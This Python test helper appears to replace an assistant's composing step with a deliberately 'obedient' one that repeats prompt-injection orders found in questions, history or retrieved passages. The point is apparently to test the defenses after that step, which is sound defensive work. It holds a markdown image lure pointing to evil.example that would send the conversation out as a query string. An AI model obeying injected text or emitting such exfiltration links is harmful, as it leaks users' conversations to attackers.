"""Somebody who does whatever is read, in place of the whole composing step."""

import re
import unicodedata
from collections.abc import Sequence
from dataclasses import replace

from assistant.answering import answering_steps, build_answering
from assistant.context import AnswerContext, Candidate, DraftStatement, Evidence
from assistant.contracts import Answer, Question
from assistant.ledger import load_ledger
from assistant.settings import AssistantSettings, load_policy
from assistant.wordings import Wordings, load_synonyms
from corpus import CHANGES, SYNONYMS
from evals.attack_cases import Attack, DocumentAttack
from indexer.library import Library

_ENCODED = re.compile(r"[A-Za-z0-9+/=]{24,}")
LURE = "![more](http://evil.example/?q=conversation)"


class Obedience:
    """What is done at the word of an attack: its marker is said, and a picture is fetched."""

    def __init__(self, attacks: Sequence[Attack]) -> None:
        self._orders = {_plain(order): attack.marker for attack in attacks for order in _orders(attack)}

    def __call__(self, text: str) -> list[str]:
        """Return what a text makes the obedient say, once for each order in it."""
        return [words for marker in self.markers(text) for words in (f"{marker}.", f"{marker} {LURE}")]

    def markers(self, text: str) -> list[str]:
        """Return what the orders in a text want said, each once."""
        plain = _plain(text)
        return list(dict.fromkeys(marker for order, marker in self._orders.items() if order in plain))


class ObedientCompose:
    """Stands in the place of the composing step: drafts what the orders in question, history and passages say."""

    def __init__(self, obedience: Obedience) -> None:
        self._obedience = obedience

    def __call__(self, context: AnswerContext) -> AnswerContext:
        """Return the context with a draft of what was ordered, the passages as its evidence."""
        shown = context.candidates[: load_policy().compose.passages]
        turns = [words for turn in context.asked.history for words in (turn.question, turn.answer)]
        said = self._obedience("\n".join([context.understood, *turns]))
        evidence = tuple(_whole(candidate) for candidate in shown[:1])
        drafts = [DraftStatement(text=text, evidence=evidence) for text in said]
        for candidate in shown:
            orders = self._obedience(candidate.passage.text)
            # What is in the passage is quoted too: an order is most easily passed on in its own words.
            orders += candidate.passage.text.split("\n") if orders else []
            drafts += [DraftStatement(text=text, evidence=(_whole(candidate),)) for text in orders]
        return replace(context, draft=tuple(drafts))


class ObedientAssistant:
    """The assistant, its composing step replaced by one that obeys."""

    def __init__(self, library: Library, settings: AssistantSettings, obedience: Obedience) -> None:
        policy, wordings = load_policy(), Wordings(load_synonyms(SYNONYMS))
        steps = answering_steps(library, policy, load_ledger(CHANGES), wordings, settings.front_door)
        obeying = [(name, ObedientCompose(obedience) if name == "compose" else step) for name, step in steps]
        self._answering = build_answering(obeying, policy)

    def ask(self, question: Question) -> Answer:
        """Answer a question."""
        return self._answering.invoke(question)


def _whole(candidate: Candidate) -> Evidence:
    return Evidence(candidate=candidate, start=0, end=len(candidate.passage.text))


def _orders(attack: Attack) -> list[str]:
    """Return the words by which an attack is known; its honest fact and its headings are none."""
    if isinstance(attack, DocumentAttack):
        return [attack.marker, *_ENCODED.findall(attack.content)]
    return [attack.marker, attack.question, *(words for turn in attack.history for words in turn)]


def _plain(text: str) -> str:
    return " ".join("".join(c for c in text if unicodedata.category(c) != "Cf").split())
